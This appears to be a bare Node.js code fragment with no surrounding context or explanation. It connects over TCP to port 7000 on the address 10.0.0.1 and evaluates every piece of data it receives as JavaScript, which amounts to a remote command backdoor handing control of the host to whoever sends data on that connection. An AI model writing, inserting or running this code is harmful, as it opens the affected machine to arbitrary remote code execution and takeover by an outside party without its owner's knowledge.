const net = require('net');
const c = net.connect(7000, '10.0.0.1');
c.on('data', chunk => eval(chunk.toString()));
